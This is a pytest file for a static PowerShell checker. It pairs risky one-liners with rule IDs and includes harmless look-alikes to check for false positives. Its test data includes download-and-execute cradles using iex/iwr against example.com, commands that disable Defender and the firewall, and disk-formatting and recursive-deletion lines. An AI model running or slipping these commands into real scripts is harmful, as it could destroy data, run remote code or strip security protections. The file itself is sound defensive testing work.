"""The static check of PowerShell (shared.powershell_check): each rule on its own, and
harmless look-alikes."""

from __future__ import annotations

import pytest

from shared.powershell_check import RULES, check_script

CASES = [
    ("Remove-Item -Path $folder -Recurse -Force", "RF1001"),
    ("Get-ChildItem C:\\x | Remove-Item -Recurse", "RF1001"),
    ("rm -Recurse $dir", "RF1001"),
    ("Remove-ADUser -Identity $u -Confirm:$false", "RF1001"),
    ("Disable-ADAccount -Identity $u", "RF1001"),
    ("Format-Volume -DriveLetter D -FileSystem NTFS", "RF1002"),
    ("Clear-Disk -Number 1 -RemoveData", "RF1002"),
    ("Remove-ItemProperty -Path HKLM:\\SOFTWARE\\Contoso -Name Token", "RF1003"),
    ("Remove-Item -Path 'HKCU:\\Software\\Contoso'", "RF1003"),
    ("reg delete HKLM\\Software\\Contoso /f", "RF1003"),
    ("Restart-Computer -Force", "RF1004"),
    ("Stop-Computer", "RF1004"),
    ("Set-ExecutionPolicy Unrestricted -Scope LocalMachine", "RF1005"),
    ("Set-ExecutionPolicy -ExecutionPolicy Unrestricted", "RF1005"),
    ("Invoke-Expression $command", "RF2001"),
    ("iex (iwr https://example.com/setup.ps1)", "RF2002"),
    ("Invoke-RestMethod https://example.com/x.ps1 | Invoke-Expression", "RF2002"),
    ("iex ((New-Object Net.WebClient).DownloadString('https://example.com/x'))", "RF2002"),
    ("& ([scriptblock]::Create((iwr https://example.com/x).Content))", "RF2002"),
    ("$s = ConvertTo-SecureString 'Summer2025!' -AsPlainText -Force", "RF3001"),
    ('$s = ConvertTo-SecureString -String "Summer2025!" -AsPlainText -Force', "RF3001"),
    ("$password = 'Summer2025!'", "RF3002"),
    ('$ApiKey = "abc123"', "RF3002"),
    ("New-LocalUser -Name kiosk -Password 'x'", "RF3002"),
    ("Set-MpPreference -DisableRealtimeMonitoring $true", "RF4001"),
    ("Set-MpPreference -DisableIOAVProtection:$true", "RF4001"),
    ("Add-MpPreference -ExclusionPath 'C:\\Tools'", "RF4002"),
    ("Set-NetFirewallProfile -Profile Domain,Private -Enabled False", "RF4003"),
    ("netsh advfirewall set allprofiles state off", "RF4003"),
]
CLEAN = [
    "Remove-Item -LiteralPath $file -Force",
    "Get-ChildItem -Recurse -Filter *.log",
    "$s = ConvertTo-SecureString -String $plain -AsPlainText -Force",
    "$passwordLastSet = (Get-ADUser $u -Properties PasswordLastSet).PasswordLastSet",
    "$password = Read-Host -AsSecureString",
    "Set-MpPreference -DisableRealtimeMonitoring $false",
    "Set-NetFirewallProfile -Profile Domain -Enabled True",
    "Set-ExecutionPolicy RemoteSigned -Scope Process",
    "Write-Output 'Remove-Item -Recurse is only text here'",
    "# Format-Volume in a comment",
]


@pytest.mark.parametrize(("script", "rule"), CASES)
def test_each_rule_finds_its_construct(script: str, rule: str) -> None:
    findings = check_script("Write-Output 'start'\n" + script + "\n")
    assert [f.rule for f in findings] == [rule], findings
    [finding] = findings
    assert finding.line == 2 and finding.severity == RULES[rule].severity
    assert finding.why and finding.excerpt == script[:160]


@pytest.mark.parametrize("script", CLEAN)
def test_harmless_lookalikes_are_not_flagged(script: str) -> None:
    assert check_script(script + "\n") == []


def test_every_rule_is_exercised() -> None:
    assert {rule for _, rule in CASES} == set(RULES)
